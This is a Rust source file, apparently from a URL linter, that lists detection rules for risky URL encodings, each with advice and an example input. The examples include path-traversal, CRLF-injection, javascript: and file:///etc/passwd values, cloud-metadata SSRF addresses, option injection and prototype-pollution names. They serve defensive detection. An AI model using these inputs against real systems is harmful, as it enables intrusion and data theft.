//! The rules of lint as data: one row a rule. The checks are in the files that are named after what they read.
#![forbid(unsafe_code)]

use Context::{Any, Form, Host, Path, Query, Url};
use Severity::{Error, Info, Warn};

use super::address::{PRIVATE_ENDS, PRIVATE_NAMES, WILDCARDS};
use super::all_rules::ALL_RULES;
use super::context::{Context, Severity};
use super::needs::{
    ASCII_TRIPLET, CONTROL, DISGUISED, MALFORMED, NON_ASCII, Needs, SCHEME_RELATIVE, TARGET,
    UNUSUAL, VALUE_SCHEME, form, host, outside, pairs, path, text, values,
};
use super::rule::Rule;

/// A rule.
#[derive(Clone, Copy)]
pub(super) struct Row {
    pub(super) rule: Rule,
    /// The stable name, for programs.
    pub(super) name: &'static str,
    /// In most contexts: [`Rule::severity`] has the others.
    pub(super) severity: Severity,
    /// The clause or the CWE entry that explains the rule.
    pub(super) reference: &'static str,
    /// What a finding means, for a person.
    pub(super) message: &'static str,
    /// A text in which the rule is found, and its context.
    pub(super) example: (Context, &'static [u8]),
    /// A text in the same context that looks like it, in which the rule is not found.
    pub(super) counterexample: &'static [u8],
    /// What to do about a finding.
    pub(super) advice: &'static str,
    /// What a text has if the rule has a finding in it.
    pub(super) needs: &'static Needs,
}

/// The rows that are checked, in the order of [`Rule`].
pub(super) static ROWS: [Row; COUNT] = {
    let mut rows = [ALWAYS[0]; COUNT];
    let mut at = 0;
    while at < COUNT {
        rows[at] = if at < ALWAYS.len() { ALWAYS[at] } else { MORE[at - ALWAYS.len()] };
        assert!(rows[at].rule as usize == at, "rows in the order of the rules");
        if !ALL_RULES {
            // Where the size of a program counts, it is left out.
            rows[at].counterexample = b"";
        }
        at += 1;
    }
    rows
};

/// The number of rows that are checked.
const COUNT: usize = ALWAYS.len() + if ALL_RULES { MORE.len() } else { 0 };

/// The rules that every build checks.
#[rustfmt::skip]
const ALWAYS: [Row; 39] = [
    Row {
        rule: Rule::MalformedEscape, name: "malformed-escape", severity: Error, reference: "RFC 3986 2.1",
        message: "a `%` without two hexadecimal digits; decoders refuse it, keep it or drop it",
        example: (Path, b"/100%"), counterexample: b"/100%25",
        advice: "Encode a percent sign that is text as `%25`.",
        needs: &text(&[MALFORMED]),
    },
    Row {
        rule: Rule::PercentU, name: "percent-u", severity: Warn, reference: "ECMA-262 B.2.1.1",
        message: "JavaScript's `%uXXXX`, which no URI may have; some servers decode it",
        example: (Query, b"q=%u4E2D"), counterexample: b"q=u4E2D",
        advice: "Write the octets of UTF-8 as triplets: `%E4%B8%AD`.",
        needs: &text(&[MALFORMED]),
    },
    Row {
        rule: Rule::DoubleEncoding, name: "double-encoding", severity: Warn, reference: "CWE-174",
        message: "encoded more than once: a decoder that decodes twice sees another text",
        example: (Path, b"/a%252Fb"), counterexample: b"/a%2Fb",
        advice: "Decode exactly once, and check the text after that.",
        needs: &text(&[ASCII_TRIPLET]),
    },
    Row {
        rule: Rule::LayerLimit, name: "layer-limit", severity: Error, reference: "CWE-174",
        message: "encoded more often than lint checks",
        example: (Path, b"/%25252525252541"), counterexample: b"/%2541",
        advice: "Refuse the text. No program writes that number of layers.",
        needs: &text(&[ASCII_TRIPLET]),
    },
    Row {
        rule: Rule::OverEncoded, name: "over-encoded", severity: Info, reference: "RFC 3986 2.3",
        message: "an unreserved character needs no triplet; filters that compare text miss it",
        example: (Path, b"/%61dmin"), counterexample: b"/admin%20",
        advice: "Normalize before you compare or filter: `triplet normalize`.",
        needs: &text(&[ASCII_TRIPLET]),
    },
    Row {
        rule: Rule::LowercaseHex, name: "lowercase-hex", severity: Info, reference: "RFC 3986 2.1, 6.2.2.1",
        message: "the same octet is written in two ways; upper-case digits are the normal form",
        example: (Path, b"/%7e/%7E"), counterexample: b"/%7E/%7E",
        advice: "Write hexadecimal digits in upper case: `triplet normalize --level percent`.",
        needs: &text(&[&[b"%[a-f]", b"%[0-9A-F][a-f]"]]),
    },
    Row {
        rule: Rule::EncodedDotSegment, name: "encoded-dot-segment", severity: Error, reference: "RFC 3986 6.2.2.3, CWE-22",
        message: "an encoded dot segment: it goes up if a filter runs before the decoder",
        example: (Path, b"/a/%2e%2e/b"), counterexample: b"/a/%2e%2e%2eb/c",
        advice: "Refuse it, or remove dot segments after decoding and check the result.",
        needs: &path(&[ASCII_TRIPLET]),
    },
    Row {
        rule: Rule::DotSegment, name: "dot-segment", severity: Info, reference: "RFC 3986 5.2.4, CWE-22",
        message: "a dot segment: what is opened is not what is written",
        example: (Path, b"/a/../b"), counterexample: b"/a/..b/c",
        advice: "Resolve the path first, then check that it is still below the folder that you serve.",
        needs: &text(&[ASCII_TRIPLET, MALFORMED, DISGUISED, &[b"/.", b"\0.", b".."]]),
    },
    Row {
        rule: Rule::DotSegmentPathParam, name: "dot-segment-path-param", severity: Error, reference: "RFC 3986 3.3, CWE-22",
        message: "a dot segment with a parameter: servers that strip parameters go up",
        example: (Path, b"/public/..;/admin"), counterexample: b"/public/a;/admin",
        advice: "Refuse it. Strip parameters before dot segments are removed, or never.",
        needs: &path(&[ASCII_TRIPLET, &[b";"]]),
    },
    Row {
        rule: Rule::EncodedSeparator, name: "encoded-separator", severity: Info, reference: "RFC 3986 2.2",
        message: "an encoded slash or backslash: a server that decodes first splits here",
        example: (Path, b"/a%2Fb"), counterexample: b"/a%2Db",
        advice: "Split the path before you decode its segments.",
        needs: &path(&[ASCII_TRIPLET]),
    },
    Row {
        rule: Rule::EncodedDelimiter, name: "encoded-delimiter", severity: Info, reference: "RFC 3986 2.2",
        message: "an encoded delimiter: if decoded first, it ends the component",
        example: (Path, b"/a%3Fb"), counterexample: b"/a%40b",
        advice: "Split the reference before you decode its components.",
        needs: &text(&[ASCII_TRIPLET]),
    },
    Row {
        rule: Rule::EncodedDelimiterInHost, name: "encoded-delimiter-in-host", severity: Error, reference: "RFC 3986 3.2.2, CWE-918",
        message: "an encoded character that no host may have: decoded, the host is another one",
        example: (Url, b"http://good.test%40evil.test/"), counterexample: b"http://good.test/%40evil.test",
        advice: "Refuse it: no registered name has such a character.",
        needs: &host(&[UNUSUAL]),
    },
    Row {
        rule: Rule::OverEncodedHost, name: "over-encoded-host", severity: Warn, reference: "RFC 3986 2.3, CWE-918",
        message: "an encoded letter in the host: filters that compare hosts miss it",
        example: (Url, b"http://%65xample.org/"), counterexample: b"http://example.org/%65",
        advice: "Decode and compare hosts in their normal form.",
        needs: &host(&[UNUSUAL]),
    },
    Row {
        rule: Rule::NfkcDelimiter, name: "nfkc-delimiter", severity: Info, reference: "UTS #46, CWE-180",
        message: "a character that compatibility normalisation turns into a delimiter",
        example: (Url, b"http://evil.test%EF%BC%8F.good.test/"), counterexample: b"http://evil.test/%E4%B8%AD",
        advice: "Normalize before you split or check, and refuse delimiters that appear.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::InvalidAceLabel, name: "invalid-ace-label", severity: Error, reference: "RFC 5891 4.2",
        message: "a label with `xn--` that is not punycode",
        example: (Host, b"xn--a-.test"), counterexample: b"xn--mnchen-3ya.test",
        advice: "Refuse the name: no registry has such a label.",
        needs: &host(&[UNUSUAL, &[b"~xn--"]]),
    },
    Row {
        rule: Rule::LeadingDash, name: "leading-dash", severity: Error, reference: "CWE-88",
        message: "begins with `-`: a command reads it as an option",
        example: (Host, b"-oProxyCommand=x"), counterexample: b"a-oProxyCommand",
        advice: "Refuse it, or pass `--` before it on a command line.",
        needs: &values(&[ASCII_TRIPLET, &[b"[=/\0]-[-A-Za-z]"]]).and_host(&[UNUSUAL, &[b"\0-"]]),
    },
    Row {
        rule: Rule::NulByte, name: "nul-byte", severity: Error, reference: "CWE-158",
        message: "the octet NUL: where it ends strings, the rest is lost",
        example: (Path, b"/a.php%00.png"), counterexample: b"/a.php00.png",
        advice: "Refuse it: no name of a file or a host has this octet.",
        needs: &text(&[CONTROL, ASCII_TRIPLET]),
    },
    Row {
        rule: Rule::NulByteNested, name: "nul-byte-nested", severity: Error, reference: "CWE-158, CWE-174",
        message: "the octet NUL, encoded more than once",
        example: (Path, b"/a%2500"), counterexample: b"/a%00",
        advice: "Refuse it, and decode exactly once.",
        needs: &text(&[ASCII_TRIPLET]),
    },
    Row {
        rule: Rule::Crlf, name: "crlf", severity: Error, reference: "CWE-93",
        message: "a line break: in a header or a log it begins a new line",
        example: (Query, b"lang=en%0D%0ALocation:%20x"), counterexample: b"lang=en%20Location:%20x",
        advice: "Refuse line breaks in everything that goes into a header or a line of a log.",
        needs: &text(&[CONTROL, ASCII_TRIPLET]),
    },
    Row {
        rule: Rule::ControlChar, name: "control-char", severity: Error, reference: "CWE-150",
        message: "a control character",
        example: (Path, b"/a%07"), counterexample: b"/a%20",
        advice: "Refuse it, or show it escaped.",
        needs: &text(&[CONTROL, ASCII_TRIPLET, NON_ASCII]),
    },
    Row {
        rule: Rule::TerminalEscape, name: "terminal-escape", severity: Error, reference: "CWE-150",
        message: "the start of a terminal's control sequence",
        example: (Query, b"q=%1B%5B2J"), counterexample: b"q=%5B2J",
        advice: "Escape control characters before a terminal shows the text.",
        needs: &text(&[CONTROL, ASCII_TRIPLET, NON_ASCII]),
    },
    Row {
        rule: Rule::LossyNarrowing, name: "lossy-narrowing", severity: Info, reference: "CWE-197",
        message: "a character whose low byte is a line break: truncated to a byte, it becomes one",
        example: (Query, b"q=%C4%8A"), counterexample: b"q=%C3%A4",
        advice: "Encode characters as UTF-8. Never cut a code point to its low byte.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::OverlongUtf8, name: "overlong-utf8", severity: Error, reference: "RFC 3629 3, 10",
        message: "a character in more bytes than it needs: forbidden, but some decoders accept it",
        example: (Path, b"/%C0%AF"), counterexample: b"/%C3%AF",
        advice: "Refuse it. A decoder of UTF-8 that accepts it is broken.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::SurrogateUtf8, name: "surrogate-utf8", severity: Error, reference: "RFC 3629 3",
        message: "half of a surrogate pair: CESU-8, not UTF-8",
        example: (Path, b"/%ED%A0%80"), counterexample: b"/%ED%9F%BF",
        advice: "Refuse it, or join the halves before you encode.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::BeyondUnicode, name: "beyond-unicode", severity: Error, reference: "RFC 3629 3",
        message: "beyond U+10FFFF",
        example: (Path, b"/%F4%90%80%80"), counterexample: b"/%F4%8F%BF%BD",
        advice: "Refuse it: there is no such character.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::InvalidUtf8, name: "invalid-utf8", severity: Warn, reference: "RFC 3629 3",
        message: "octets that are not UTF-8: another charset, or broken",
        example: (Path, b"/%FF"), counterexample: b"/%C3%BF",
        advice: "Decode it with the charset of the page that sent it, or refuse it.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::RawNonAscii, name: "raw-non-ascii", severity: Info, reference: "RFC 3987 3.1",
        message: "a raw character outside ASCII: an IRI, not a URI",
        example: (Path, b"/caf\xC3\xA9"), counterexample: b"/caf%C3%A9",
        advice: "Encode it: `triplet iri to-uri`.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::RawBackslash, name: "raw-backslash", severity: Warn, reference: "WHATWG URL 4.4",
        message: "a backslash: browsers read a slash, others do not",
        example: (Url, b"http://good.test\\@evil.test/"), counterexample: b"http://good.test/%5C",
        advice: "Refuse it, or encode it as `%5C`.",
        needs: &text(&[&[b"[\\]"]]),
    },
    Row {
        rule: Rule::BidiControl, name: "bidi-control", severity: Error, reference: "RFC 3987 4.1",
        message: "a character that changes the direction of text: what is shown is not what is there",
        example: (Path, b"/photo%E2%80%AEgpj.exe"), counterexample: b"/photo%E2%80%A6",
        advice: "Refuse it in names, and escape it where a person reads the text.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::InvisibleChar, name: "invisible-char", severity: Warn, reference: "UTS #39",
        message: "an invisible character",
        example: (Path, b"/adm%E2%80%8Bin"), counterexample: b"/adm%E2%80%90in",
        advice: "Refuse it in names, and escape it where a person reads the text.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::NotNfc, name: "not-nfc", severity: Info, reference: "RFC 3987 5.3.2.2",
        message: "a letter and its accent as two characters: looks like one, compares as two",
        example: (Path, b"/cafe%CC%81"), counterexample: b"/caf%C3%A9",
        advice: "Normalize to NFC before you encode or compare.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::HtmlMetachar, name: "html-metachar", severity: Warn, reference: "CWE-79",
        message: "a character that begins markup where text is not escaped",
        example: (Path, b"/%3Cscript%3E"), counterexample: b"/script",
        advice: "Escape the text where it enters markup.",
        needs: &text(&[ASCII_TRIPLET, &[b"[<>\"']"]]),
    },
    Row {
        rule: Rule::SemicolonSeparator, name: "semicolon-separator", severity: Info, reference: "WHATWG URL 5.1",
        message: "a `;` that some decoders read as `&`",
        example: (Form, b"a=1;b=2"), counterexample: b"a=1&b=2;",
        advice: "Decide which separator is meant, and encode the other one.",
        needs: &form(&[&[b";"]]),
    },
    Row {
        rule: Rule::DuplicateKey, name: "duplicate-key", severity: Info, reference: "CWE-235",
        message: "a name twice: some take the first, some the last, some both",
        example: (Form, b"a=1&a=2"), counterexample: b"a=1&A=2",
        advice: "Decide which of the values counts, or refuse the second.",
        needs: &pairs(&[&[b"&"]]),
    },
    Row {
        rule: Rule::PlusAmbiguity, name: "plus-ambiguity", severity: Info, reference: "WHATWG URL 5.1",
        message: "`+` and `%2B` in one text: the first is a space in a form, and a plus elsewhere",
        example: (Form, b"a=1+1&b=1%2B1"), counterexample: b"a=1+1&b=1%201",
        advice: "Write a space as `%20` and a plus sign as `%2B`.",
        needs: &form(&[&[b"+"]]),
    },
    Row {
        rule: Rule::ProtoKey, name: "proto-key", severity: Error, reference: "CWE-1321",
        message: "a name that reaches into JavaScript's prototypes",
        example: (Form, b"__proto__[x]=1"), counterexample: b"__proto[x]=1",
        advice: "Refuse the name, or keep the pairs in a map without a prototype.",
        needs: &pairs(&[ASCII_TRIPLET, &[b"__[pdl]", b"[].[][pc][ro][on]"]]),
    },
    Row {
        rule: Rule::DeepOrHugeIndex, name: "deep-or-huge-index", severity: Error, reference: "CWE-770",
        message: "an index or a depth that makes a decoder allocate",
        example: (Form, b"a[4294967295]=1"), counterexample: b"a[42]=1",
        advice: "Limit depth and indexes before you build arrays.",
        needs: &pairs(&[ASCII_TRIPLET, &[b"[].[]"]]),
    },
    Row {
        rule: Rule::NtfsAds, name: "ntfs-ads", severity: Error, reference: "CWE-69",
        message: "a stream of an NTFS file: the same file under another name",
        example: (Path, b"/index.asp::$DATA"), counterexample: b"/index.asp$DATA",
        advice: "Refuse colons in names of files.",
        needs: &values(&[ASCII_TRIPLET, &[b":"]]),
    },
    Row {
        rule: Rule::WindowsDevice, name: "windows-device", severity: Info, reference: "CWE-67",
        message: "the name of a device on Windows",
        example: (Path, b"/files/NUL"), counterexample: b"/files/NULL",
        advice: "Refuse the names of devices before you open a file.",
        needs: &path(&[ASCII_TRIPLET, &[b"~con[./:% \0]", b"~prn[./:% \0]", b"~aux[./:% \0]", b"~nul[./:% \0]", b"~com[1-9%\xC2]", b"~lpt[1-9%\xC2]", b"[TNKtnk]$"]]),
    },
];

/// The rules that only the feature `all-rules` checks.
#[rustfmt::skip]
const MORE: [Row; 43] = [
    // The grammar.
    Row {
        rule: Rule::InvalidScheme, name: "invalid-scheme", severity: Error, reference: "RFC 3986 3.1, 4.2",
        message: "a `:` before the first slash, but no scheme before it",
        example: (Url, b"4files://store.test/a"), counterexample: b"files4://store.test/a",
        advice: "Correct the scheme, or begin a relative path with `./`.",
        needs: &outside(),
    },
    Row {
        rule: Rule::EmptyHost, name: "empty-host", severity: Error, reference: "RFC 3986 3.2.2, RFC 9110 4.2.1",
        message: "the host is missing: programs take the next text for it",
        example: (Url, b"http://:8080/admin"), counterexample: b"http://h:8080/admin",
        advice: "Write the host, or refuse the reference.",
        needs: &outside(),
    },
    Row {
        rule: Rule::InvalidPort, name: "invalid-port", severity: Error, reference: "RFC 3986 3.2.3",
        message: "what follows the host is no port",
        example: (Url, b"http://shop.test:80a/"), counterexample: b"http://shop.test:80/a",
        advice: "Write a decimal number up to 65535, or refuse the reference.",
        needs: &outside(),
    },
    Row {
        rule: Rule::InvalidIpLiteral, name: "invalid-ip-literal", severity: Error, reference: "RFC 3986 3.2.2",
        message: "brackets around a host are for an IPv6 address",
        example: (Url, b"http://[intranet.test]/"), counterexample: b"http://[2001:db8::1]/",
        advice: "Write an IPv6 address between both brackets, and names without brackets.",
        needs: &host(&[UNUSUAL]),
    },
    Row {
        rule: Rule::InvalidLabel, name: "invalid-label", severity: Warn, reference: "RFC 1034 3.1, RFC 1123 2.1",
        message: "a label that no name has: empty, too long, or with a hyphen at its end",
        example: (Host, b"a..b.test"), counterexample: b"a.b.test",
        advice: "Refuse the name: DNS has no such label.",
        needs: &host(&[UNUSUAL, &[b"..", b"\0.", b".\0", b"-.", b".-", b"-\0"]]),
    },
    Row {
        rule: Rule::DisallowedChar, name: "disallowed-char", severity: Warn, reference: "RFC 3986 2",
        message: "a character that this component may not have as it is",
        example: (Path, b"/a\"b"), counterexample: b"/a%22b",
        advice: "Encode it as a triplet.",
        needs: &text(&[&[b"[][{}\"<>^`|#?]"]]),
    },
    Row {
        rule: Rule::RawSpace, name: "raw-space", severity: Warn, reference: "RFC 3986 2",
        message: "a space as it is: a line of HTTP or a log ends there",
        example: (Path, b"/a b"), counterexample: b"/a%20b",
        advice: "Encode it as `%20`, and trim a reference that somebody typed.",
        needs: &text(&[&[b" "]]),
    },
    Row {
        rule: Rule::RawControl, name: "raw-control", severity: Error, reference: "RFC 3986 2",
        message: "a control character as it is; browsers drop tabs and line breaks",
        example: (Url, b"https://a.test/b\tc"), counterexample: b"https://a.test/b%09c",
        advice: "Refuse it, or encode it.",
        needs: &text(&[CONTROL]),
    },
    Row {
        rule: Rule::RawByte, name: "raw-byte", severity: Error, reference: "RFC 3987 3.1",
        message: "a raw byte that is not UTF-8: neither a URI nor an IRI",
        example: (Path, b"/caf\xE9"), counterexample: b"/caf%E9",
        advice: "Find the charset of the text, and encode its octets.",
        needs: &text(&[NON_ASCII]),
    },
    // Schemes.
    Row {
        rule: Rule::ScriptScheme, name: "script-scheme", severity: Error, reference: "CWE-79, WHATWG HTML 7.4.2",
        message: "a scheme whose target is run as a script or shown as a page of yours",
        example: (Url, b"javascript:alert(document.cookie)"), counterexample: b"javascript/alert(document.cookie)",
        advice: "Allow http, https and mailto by name, and compare after controls and entities are removed.",
        needs: &values(&[VALUE_SCHEME]),
    },
    Row {
        rule: Rule::FetcherScheme, name: "fetcher-scheme", severity: Warn, reference: "CWE-918",
        message: "a scheme that libraries fetch or run beside http",
        example: (Query, b"src=file:///etc/passwd"), counterexample: b"src=file",
        advice: "Allow the schemes that you need by name.",
        needs: &values(&[VALUE_SCHEME]),
    },
    // Which host is it?
    Row {
        rule: Rule::WrongSlashes, name: "wrong-slashes", severity: Warn, reference: "WHATWG URL 4.4, CWE-601",
        message: "a scheme with a host, but not two slashes: browsers correct it, others do not",
        example: (Url, b"https:evil.test/path"), counterexample: b"https://good.test/path",
        advice: "Write two slashes, or refuse the reference.",
        needs: &pairs(&[VALUE_SCHEME]),
    },
    Row {
        rule: Rule::MisleadingUserinfo, name: "misleading-userinfo", severity: Warn, reference: "RFC 3986 7.6, CWE-1007",
        message: "a userinfo that looks like a host: the host comes after the `@`",
        example: (Url, b"https://accounts.bank.test@evil.test/login"), counterexample: b"https://anna@good.test/login",
        advice: "Show the host alone, and refuse a userinfo in links.",
        needs: &pairs(&[VALUE_SCHEME, SCHEME_RELATIVE]),
    },
    Row {
        rule: Rule::Credentials, name: "credentials-in-userinfo", severity: Info, reference: "RFC 3986 3.2.1, 7.5, CWE-522",
        message: "a password in the reference: logs and histories keep it",
        example: (Url, b"https://user:secret@example.com/"), counterexample: b"https://user@example.com/",
        advice: "Send credentials in a header.",
        needs: &outside(),
    },
    Row {
        rule: Rule::AtSignAfterHost, name: "at-sign-after-host", severity: Info, reference: "RFC 3986 3.2, CWE-918",
        message: "the host ends at a `?` or `#` that other parsers read as part of it",
        example: (Url, b"http://evil.test#@good.test/"), counterexample: b"http://good.test/#@anna",
        advice: "Use one parser for the check and for the request.",
        needs: &outside(),
    },
    Row {
        rule: Rule::NumericHost, name: "numeric-host", severity: Warn, reference: "WHATWG URL 3.5, RFC 3986 7.4, CWE-918",
        message: "an IPv4 address in an unusual form: filters that compare text miss it",
        example: (Url, b"http://2130706433/"), counterexample: b"http://192.0.2.1/",
        advice: "Write four decimal numbers, and check the address that was resolved.",
        needs: &pairs(&[VALUE_SCHEME, SCHEME_RELATIVE]).and_host(&[UNUSUAL, &[b"[0-9]\0", b"[0-9].\0", b"~0x"]]),
    },
    Row {
        rule: Rule::PrivateHost, name: "private-host", severity: Info, reference: "RFC 6890, RFC 6761, CWE-918",
        message: "a loopback, private, link-local or other address that is not public",
        example: (Query, b"url=http://127.0.0.1:8080/admin"), counterexample: b"url=http://192.0.2.1:8080/admin",
        advice: "Check the address that was resolved, and refuse addresses that are not public.",
        needs: &pairs(&[VALUE_SCHEME, SCHEME_RELATIVE, TARGET]).and_host(&[UNUSUAL, &[b"[0-9]\0", b"[0-9].\0", b"~0x", b"[0-9][.-][0-9]"]]).and_names(&[&PRIVATE_ENDS, &PRIVATE_NAMES]),
    },
    Row {
        rule: Rule::EmbeddedIpv4, name: "embedded-ipv4", severity: Warn, reference: "RFC 4291 2.5.5, RFC 6052, CWE-918",
        message: "an IPv4 address within an IPv6 address or a name",
        example: (Url, b"http://[::ffff:169.254.169.254]/"), counterexample: b"http://[2001:db8::1]/",
        advice: "Check the embedded address too.",
        needs: &pairs(&[VALUE_SCHEME, SCHEME_RELATIVE]).and_host(&[UNUSUAL, &[b"[0-9][.-][0-9]"]]).and_names(&[&WILDCARDS]),
    },
    Row {
        rule: Rule::ZoneId, name: "zone-id", severity: Warn, reference: "RFC 6874, RFC 9844",
        message: "a zone of an IPv6 address: parsers disagree where it ends",
        example: (Url, b"http://[::1%25.example.com]/"), counterexample: b"http://[2001:db8::1]/%25.example.com",
        advice: "Refuse zones in references that come from outside.",
        needs: &host(&[UNUSUAL]),
    },
    // Values.
    Row {
        rule: Rule::UrlInValue, name: "url-in-value", severity: Info, reference: "CWE-601, CWE-918",
        message: "a reference as a value: a redirect or a request may follow it",
        example: (Query, b"next=https://example.com/"), counterexample: b"next=https",
        advice: "Compare its origin with a list before you follow it.",
        needs: &pairs(&[VALUE_SCHEME, SCHEME_RELATIVE]),
    },
    Row {
        rule: Rule::SchemeRelativeValue, name: "scheme-relative-value", severity: Warn, reference: "RFC 3986 4.2, CWE-601",
        message: "a value that looks like a path, but names a host",
        example: (Query, b"next=//evil.test/x"), counterexample: b"next=/good.test/x",
        advice: "Resolve it first, then compare the origin.",
        needs: &pairs(&[SCHEME_RELATIVE]),
    },
    Row {
        rule: Rule::NetworkPath, name: "network-path", severity: Warn, reference: "RFC 3986 3.3, 4.2, CWE-601",
        message: "a path that begins with two slashes: as a reference it names a host",
        example: (Path, b"//evil.test/x"), counterexample: b"/good.test/x",
        advice: "Remove all slashes but one before you redirect to it.",
        needs: &path(&[ASCII_TRIPLET, &[b"//", b"[\\]"]]),
    },
    // Names.
    Row {
        rule: Rule::MixedScript, name: "mixed-script", severity: Warn, reference: "UTS #39 5.1, 5.2",
        message: "letters of scripts that no language mixes in a name",
        example: (Host, b"p\xD0\xB0ypal.test"), counterexample: b"\xD0\xBF\xD1\x80\xD0\xB0.test",
        advice: "Show the name in Punycode.",
        needs: &host(&[UNUSUAL, &[b"~xn--"]]),
    },
    Row {
        rule: Rule::ConfusableLabel, name: "confusable-label", severity: Info, reference: "UTS #39 4",
        message: "all letters of a label look like letters of ASCII",
        example: (Host, b"xn--80ak6aa92e.com"), counterexample: b"xn--mnchen-3ya.com",
        advice: "Show the name in Punycode.",
        needs: &host(&[UNUSUAL, &[b"~xn--"]]),
    },
    Row {
        rule: Rule::IdnaDeviation, name: "idna-deviation", severity: Info, reference: "UTS #46 4",
        message: "a character that IDNA 2003 and IDNA 2008 map in different ways",
        example: (Host, b"fa\xC3\x9F.de"), counterexample: b"fass.de",
        advice: "Resolve the A-label, and compare A-labels.",
        needs: &host(&[UNUSUAL, &[b"~xn--"]]),
    },
    Row {
        rule: Rule::IdnaDot, name: "idna-dot", severity: Info, reference: "UTS #46 2.3",
        message: "a full stop of another script, which IDNA reads as a dot",
        example: (Host, b"evil\xE3\x80\x82test"), counterexample: b"good.test",
        advice: "Map the name before you split it into labels.",
        needs: &host(&[UNUSUAL]),
    },
    Row {
        rule: Rule::ConfusableDelimiter, name: "confusable-delimiter", severity: Warn, reference: "UTS #39 4, CWE-1007",
        message: "a character that looks like a delimiter",
        example: (Host, b"good.test\xE2\x88\x95a.evil.test"), counterexample: b"good.test.a",
        advice: "Show the name in Punycode.",
        needs: &host(&[UNUSUAL]),
    },
    Row {
        rule: Rule::CaseFold, name: "case-fold", severity: Info, reference: "UTS #46 2, CWE-178",
        message: "a character that becomes ASCII when its case is changed",
        example: (Path, b"/adm%C4%B1n"), counterexample: b"/adm%C3%ADn",
        advice: "Compare without changing case, or fold before you check.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::CompatChar, name: "compat-char", severity: Info, reference: "UAX #15, CWE-180",
        message: "a character that becomes ASCII by compatibility normalisation",
        example: (Path, b"/%EF%BD%81dmin"), counterexample: b"/%C3%A1dmin",
        advice: "Normalize before you check, not after.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::BestFitChar, name: "best-fit-char", severity: Info, reference: "CWE-176",
        message: "a character that code pages of Windows replace by one that programs act on",
        example: (Query, b"%E2%88%92d+a%3Db"), counterexample: b"%C3%A4d+a%3Db",
        advice: "Call the interfaces for Unicode, and check the text as it is passed on.",
        needs: &text(&[NON_ASCII]),
    },
    // Octets.
    Row {
        rule: Rule::TruncatedUtf8, name: "truncated-utf8", severity: Warn, reference: "RFC 3629 3, Unicode 3.9",
        message: "the first octets of a character, but not all: the text was cut",
        example: (Path, b"/a/%E4%B8"), counterexample: b"/a/%E4%B8%AD",
        advice: "Cut texts between characters.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::Noncharacter, name: "noncharacter", severity: Warn, reference: "Unicode 23.7",
        message: "a code point that is never a character",
        example: (Path, b"/%EF%B7%90"), counterexample: b"/%EF%BF%BD",
        advice: "Refuse it.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::Utf7, name: "utf-7", severity: Info, reference: "RFC 2152, CWE-79",
        message: "UTF-7, in which markup passes filters",
        example: (Any, b"+ADw-script+AD4-"), counterexample: b"+BEE-word",
        advice: "Send a charset with every page.",
        needs: &text(&[&[b"+A[CD]"]]),
    },
    // Layers and paths.
    Row {
        rule: Rule::NestedTriplet, name: "nested-triplet", severity: Warn, reference: "CWE-174",
        message: "a triplet that only a second decoding completes",
        example: (Path, b"/..%%35c"), counterexample: b"/..%2535c",
        advice: "Decode exactly once, and refuse malformed triplets.",
        needs: &text(&[MALFORMED]),
    },
    Row {
        rule: Rule::EmptySegment, name: "empty-segment", severity: Info, reference: "RFC 3986 3.3",
        message: "an empty segment: some programs merge slashes, others do not",
        example: (Path, b"/data//secret"), counterexample: b"/data/secret",
        advice: "Compare paths in the form in which they are opened.",
        needs: &path(&[&[b"//"]]),
    },
    Row {
        rule: Rule::PathParameter, name: "path-parameter", severity: Info, reference: "RFC 3986 3.3",
        message: "a parameter of a segment: some programs remove it before they compare",
        example: (Path, b"/admin;x=1/users"), counterexample: b"/admin,x=1/users",
        advice: "Compare the path as the program reads it that answers.",
        needs: &path(&[&[b";"]]),
    },
    Row {
        rule: Rule::WindowsTrailing, name: "windows-trailing", severity: Info, reference: "CWE-42, CWE-46",
        message: "a dot or a space at the end of a name, which Windows drops",
        example: (Path, b"/index.php."), counterexample: b"/index.php",
        advice: "Remove them before you compare, or refuse them.",
        needs: &values(&[ASCII_TRIPLET, &[b".[/&\0]", b"%20[/&\0]", b" [&\0]"]]),
    },
    Row {
        rule: Rule::WindowsShortName, name: "windows-short-name", severity: Info, reference: "CWE-58",
        message: "a short name of Windows: the same file under another name",
        example: (Path, b"/PROGRA~1/a"), counterexample: b"/PROGRAM~X/a",
        advice: "Refuse such names, or compare the long name.",
        needs: &path(&[ASCII_TRIPLET, &[b"[~][0-9]"]]),
    },
    Row {
        rule: Rule::WindowsDrive, name: "windows-drive", severity: Info, reference: "CWE-39",
        message: "a drive of Windows: joined to a folder, it replaces the folder",
        example: (Path, b"/C:/windows/win.ini"), counterexample: b"/CD:/windows/win.ini",
        advice: "Refuse a colon in the first segment.",
        needs: &values(&[ASCII_TRIPLET, &[b":", b"|", b"[\\]"]]),
    },
    // Forms.
    Row {
        rule: Rule::FieldLimit, name: "field-limit", severity: Warn, reference: "CWE-770",
        message: "more pairs than common frameworks read; what follows is dropped or refused",
        example: (Form, b"a&"), counterexample: b"a&b",
        advice: "Limit the number of pairs, and refuse more.",
        needs: &pairs(&[&[b"&"]]),
    },
    Row {
        rule: Rule::ObjectGraphName, name: "object-graph-name", severity: Warn, reference: "CWE-915, CWE-470",
        message: "a name that binders follow into objects of the program or its global variables",
        example: (Form, b"class.module.classLoader.x=1"), counterexample: b"class.id=1",
        advice: "Bind the names that you expect, and no others.",
        needs: &pairs(&[ASCII_TRIPLET, &[b"GLOB", b"P_SE", b"_[SEGPCFR][ENOI][RSVTOLQ]", b"~sloa", b"~ondo", b"~.get", b"~_mem", b"~ss[.[]", b":[$#]", b"@jav"]]),
    },
    Row {
        rule: Rule::QueryOperator, name: "query-operator", severity: Info, reference: "CWE-943",
